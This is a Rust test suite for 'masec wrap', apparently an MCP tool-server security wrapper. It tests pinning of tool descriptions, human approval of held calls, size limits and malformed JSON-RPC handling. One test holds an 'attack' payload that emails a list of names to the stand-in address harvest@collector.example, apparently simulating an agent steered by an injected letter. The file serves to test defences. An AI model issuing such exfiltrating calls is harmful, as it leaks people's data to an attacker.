//! `masec wrap` as a drop-in: several entries of a client, several clients at once, answers that cannot be passed on.

use std::fs;
use std::io::Write;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};

use rmcp::ServiceExt;
use rmcp::service::ServiceError;
use serde_json::{Value, json};

use crate::here::{peers, python, verified};
use crate::{Client, LETTER, TASK, call, done, runtime};

/// A machine's folder for state, and what the tools of a server in it are described by.
struct Machine {
    dir: PathBuf,
}

impl Machine {
    fn new(name: &str) -> Self {
        let dir = Path::new(env!("CARGO_TARGET_TMPDIR")).join(format!("wrapped-{name}"));
        let _ = fs::remove_dir_all(&dir);
        fs::create_dir_all(&dir).unwrap();
        let machine = Self { dir };
        machine.describe("Does what it is called.");
        machine
    }

    fn describe(&self, words: &str) {
        fs::write(self.dir.join("words"), words).unwrap();
    }

    /// What a client does with an entry of its own: it starts the program `script` under `masec wrap`.
    async fn start(&self, script: &Path, options: &[&str]) -> Client {
        let mut command = tokio::process::Command::new(env!("CARGO_BIN_EXE_masec"));
        command
            .env("XDG_STATE_HOME", &self.dir)
            .arg("wrap")
            .args(options)
            .arg("--")
            .arg(python())
            .arg(script)
            .arg(self.dir.join("words"));
        let transport = rmcp::transport::TokioChildProcess::new(command).unwrap();
        ().serve(transport).await.unwrap()
    }

    fn approvals(&self, arguments: &[&str]) -> (bool, String) {
        let output = Command::new(env!("CARGO_BIN_EXE_masec"))
            .env("XDG_STATE_HOME", &self.dir)
            .arg("approvals")
            .args(arguments)
            .output()
            .unwrap();
        let said = [output.stdout, output.stderr].concat();
        (output.status.success(), String::from_utf8(said).unwrap())
    }

    /// The folders of servers.
    fn servers(&self) -> Vec<PathBuf> {
        let all = fs::read_dir(self.dir.join("masec")).unwrap();
        let mut all: Vec<_> = all.map(|one| one.unwrap().path()).collect();
        all.sort();
        all
    }
}

fn script() -> PathBuf {
    peers().join("plain.py")
}

async fn tools(client: &Client) -> usize {
    client.list_all_tools().await.unwrap().len()
}

#[test]
fn a_wrapped_program_works_on_where_its_state_is_lost_and_what_is_pinned_stays() {
    let machine = Machine::new("lost");
    runtime().block_on(async {
        let client = machine.start(&script(), &[]).await;
        assert_eq!(tools(&client).await, 3);
        client.cancel().await.unwrap();
        let kept = machine.servers().remove(0);
        for gone in ["ledger.state", "ledger"] {
            let path = kept.join(gone);
            let _ = fs::remove_file(&path);
            let _ = fs::remove_dir_all(&path);
            assert!(!path.exists());
            let client = machine.start(&script(), &[]).await;
            assert_eq!(tools(&client).await, 3, "{gone}");
            client.cancel().await.unwrap();
        }
        machine.describe("Does something else.");
        let client = machine.start(&script(), &[]).await;
        assert_eq!(tools(&client).await, 0, "what was pinned stays");
        client.cancel().await.unwrap();
    });
}

#[test]
fn entries_of_one_launcher_run_at_once_and_know_of_one_another_what_they_should() {
    let machine = Machine::new("at-once");
    let other = machine.dir.join("other.py");
    fs::copy(script(), &other).unwrap();
    let attack = json!({"recipient": "harvest@collector.example", "body": "Ann, Bob, Cleo"});
    runtime().block_on(async {
        let first = machine.start(&script(), &[]).await;
        let second = machine.start(&script(), &[]).await;
        assert_eq!((tools(&first).await, tools(&second).await), (3, 3));
        // Another server has tools of the same names, and describes them in its own way.
        machine.describe("Does something else.");
        let third = machine.start(&other, &[]).await;
        assert_eq!(tools(&third).await, 3);
        // What one process pinned is pinned for the next of the same server, also where that runs beside it.
        let fourth = machine.start(&script(), &[]).await;
        assert_eq!(tools(&fourth).await, 0);
        fourth.cancel().await.unwrap();

        let servers = machine.servers();
        let [ones, others] = servers.as_slice() else {
            panic!("{servers:?}");
        };
        let name = others.file_name().unwrap().to_str().unwrap().to_owned();
        assert!(name.starts_with("plain-"), "{servers:?}");
        assert!(
            ones.file_name()
                .unwrap()
                .to_str()
                .unwrap()
                .starts_with("other-")
        );

        // The person at this machine decides for all of them, or for one server.
        let mut ids = Vec::new();
        for client in [&first, &second, &third] {
            let (error, text) = done(client, call("read_letter", &json!({}), Some(TASK))).await;
            assert!(!error && text == LETTER, "{text}");
            let (error, text) = done(client, call("send_email", &attack, Some(TASK))).await;
            assert!(error && text.contains("security gateway"), "{text}");
        }
        for (asked, count) in [
            (&["--wrapped", "plain"][..], 2),
            (&["--wrapped", &name], 2),
            (&["--wrapped", "other"], 1),
            (&["--all-wrapped"], 3),
        ] {
            let (fine, held) = machine.approvals(&[asked, &["list", "--json"]].concat());
            assert!(fine, "{held}");
            let held: Vec<Value> = serde_json::from_str(&held).unwrap();
            assert_eq!(held.len(), count, "{asked:?} {held:?}");
            ids = held
                .iter()
                .map(|held| held["id"].as_str().unwrap().to_owned())
                .collect();
        }
        let (fine, said) = machine.approvals(&["--wrapped", "nobody", "list"]);
        assert!(
            !fine && said.contains("no wrapped program runs of `nobody`"),
            "{said}"
        );
        let (fine, said) = machine.approvals(&["--all-wrapped", "grant", "1-2-3"]);
        assert!(
            !fine && said.contains("no wrapped program that runs holds"),
            "{said}"
        );
        for id in &ids {
            let (fine, said) = machine.approvals(&["--all-wrapped", "grant", id]);
            assert!(fine && said.contains("granted"), "{said}");
        }
        for client in [first, second, third] {
            let (error, text) = done(&client, call("send_email", &attack, Some(TASK))).await;
            assert!(!error && text == "sent", "{text}");
            client.cancel().await.unwrap();
        }
        let (fine, said) = machine.approvals(&["--all-wrapped", "list"]);
        assert!(fine && said.is_empty(), "nobody runs: {said}");
        // Whoever runs alone goes on where the last one alone was.
        let again = machine.start(&script(), &[]).await;
        assert_eq!(tools(&again).await, 0, "nobody accepted the change");
        again.cancel().await.unwrap();
        assert!(ones.join("ledger").is_dir() && !ones.join("2").exists());
        assert!(others.join("3/ledger").is_dir() && !others.join("4").exists());
        for ledger in [
            ones.join("ledger"),
            others.join("ledger"),
            others.join("2/ledger"),
        ] {
            verified(&ledger);
        }
    });
}

#[test]
fn an_answer_that_does_not_get_through_is_an_error_and_the_session_goes_on() {
    let machine = Machine::new("too-long");
    runtime().block_on(async {
        let client = machine.start(&script(), &[]).await;
        let narrow = machine.start(&script(), &["--max-body", "100000"]).await;
        let say = |arguments: Value| call("say", &arguments, None);
        for (client, arguments, why) in [
            (
                &client,
                json!({"size": 5_000_000}),
                "longer than 4194304 bytes",
            ),
            (
                &narrow,
                json!({"size": 200_000}),
                "longer than 100000 bytes",
            ),
            (&client, json!({"twice": true}), "JSON"),
        ] {
            let answer = client.call_tool(say(arguments.clone())).await;
            let Err(ServiceError::McpError(error)) = answer else {
                panic!("{arguments} {answer:?}");
            };
            assert_eq!(error.code.0, -32005, "{error:?}");
            assert!(error.message.contains(why), "{error:?}");
            let (error, text) = done(client, say(json!({"size": 3, "stray": true}))).await;
            assert!(!error && text == "xxx", "{text}");
        }
        let (error, text) = done(&client, say(json!({"size": 200_000}))).await;
        assert!(!error && text.len() == 200_000, "{text}");
        client.cancel().await.unwrap();
        narrow.cancel().await.unwrap();
    });
}

/// What `masec wrap` says to a client that says these lines and goes.
fn told(machine: &Machine, lines: &str) -> Vec<Value> {
    let mut child = Command::new(env!("CARGO_BIN_EXE_masec"))
        .env("XDG_STATE_HOME", &machine.dir)
        .args(["wrap", "--", &python()])
        .arg(script())
        .arg(machine.dir.join("words"))
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let mut input = child.stdin.take().unwrap();
    input.write_all(lines.as_bytes()).unwrap();
    drop(input);
    let output = child.wait_with_output().unwrap();
    let said = String::from_utf8(output.stdout).unwrap();
    let log = String::from_utf8_lossy(&output.stderr);
    assert!(output.status.success(), "{said}{log}");
    let answers = said.lines().map(|line| serde_json::from_str(line).unwrap());
    answers.collect()
}

#[test]
fn an_id_has_one_answer() {
    let machine = Machine::new("second-answers");
    let say = |id: u64, arguments: Value| json!({"jsonrpc": "2.0", "id": id, "method": "tools/call", "params": {"name": "say", "arguments": arguments}});
    let messages = [
        json!({"jsonrpc": "2.0", "id": 1, "method": "initialize", "params": {"protocolVersion": "2025-11-25", "capabilities": {}, "clientInfo": {"name": "t", "version": "1"}}}),
        say(2, json!({"size": 2, "again": true})),
        say(3, json!({"two_ids": 3})),
        say(4, json!({"two_ids": 5})),
        json!({"jsonrpc": "2.0", "id": 6, "method": "tools/call", "params": {"name": ["say"]}}),
        json!({"jsonrpc": "2.0", "id": 7, "method": "tools/call", "params": {"name": "say", "Name": "send_email"}}),
        say(8, json!({"size": 1})),
    ];
    let mut lines: String = messages.iter().map(|it| format!("{it}\n")).collect();
    lines.push_str("{\"jsonrpc\":\"2.0\",\"id\":9,\"id\":9,\"method\":\"ping\"}\n");
    let answers = told(&machine, &lines);
    let to = |id: u64| -> Vec<&Value> { answers.iter().filter(|it| it["id"] == id).collect() };
    let texts = |id: u64| -> Vec<&Value> {
        let text = |it: &&'_ Value| it["result"]["content"][0]["text"].is_string();
        let texts = to(id).into_iter().filter(text);
        texts
            .map(|it| &it["result"]["content"][0]["text"])
            .collect()
    };
    assert_eq!(texts(2), ["xx"], "{answers:?}");
    assert_eq!(texts(8), ["x"], "{answers:?}");
    for (id, code) in [(3, -32005), (6, -32602), (7, -32700), (9, -32700)] {
        let told = to(id);
        assert_eq!(told.len(), 1, "{id} {answers:?}");
        assert_eq!(told[0]["error"]["code"], code, "{id} {answers:?}");
    }
    // Which of two different ids is meant nobody knows.
    assert!(to(4).is_empty() && to(5).is_empty(), "{answers:?}");
}

#[test]
fn what_was_said_before_the_client_went_is_answered() {
    let machine = Machine::new("said-last");
    let messages = [
        json!({"jsonrpc": "2.0", "id": 1, "method": "initialize", "params": {"protocolVersion": "2025-11-25", "capabilities": {}, "clientInfo": {"name": "t", "version": "1"}}}),
        json!({"jsonrpc": "2.0", "method": "notifications/initialized"}),
        json!({"jsonrpc": "2.0", "id": "last", "method": "tools/call", "params": {"name": "say", "arguments": {"size": 4}}}),
        // What cannot be read is answered under the id that it has.
        json!({"jsonrpc": "2.0", "id": 9, "method": "ping", "extra": 1}),
    ];
    let lines: String = messages.iter().map(|it| format!("{it}\n")).collect();
    let answers = told(&machine, &lines);
    let to = |id: Value| {
        answers
            .iter()
            .find(|it| it["id"] == id)
            .unwrap_or_else(|| panic!("{answers:?}"))
    };
    assert_eq!(to(json!(1))["result"]["serverInfo"]["name"], "plain");
    assert_eq!(to(json!("last"))["result"]["content"][0]["text"], "xxxx");
    assert_eq!(to(json!(9))["error"]["code"], -32600);
}
